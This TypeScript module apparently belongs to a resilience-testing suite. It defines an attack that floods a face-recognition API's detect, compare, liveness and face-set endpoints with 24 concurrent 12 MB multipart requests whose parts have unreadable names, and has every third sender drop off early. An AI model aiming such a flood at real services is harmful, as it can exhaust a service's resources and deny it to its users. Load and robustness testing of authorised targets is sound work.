import { type Attack, flood } from '../attack.ts';
import { multipart, multipartType, unnamed } from '../multipart.ts';

const width = 24;
const content = Buffer.alloc(11_900_000, 0x41);

/** Parts whose name can't be read, on every operation that takes multipart; every third sender leaves before it is answered. */
export const multipartParts: Attack = {
  name: 'multipart',
  what: `${unnamed.length} kinds of multipart parts without a usable Content-Disposition, 12 MB each, ${width} at a time`,
  async prepare(order) {
    const { projectId, token } = order.target;
    const operations = [
      'face-detect',
      'face-compare',
      'live-detect',
      'face-sets/large/search',
      'face-sets/large/faces',
    ];
    return () =>
      flood(order, width, (number) => ({
        path: `/v2/${projectId}/${operations[number % operations.length]}`,
        headers: { 'x-auth-token': token, 'content-type': multipartType },
        body: multipart(unnamed[number % unnamed.length] ?? [], content),
        ...(number % 3 === 2 && { leavesMs: 400 }),
      }));
  },
};
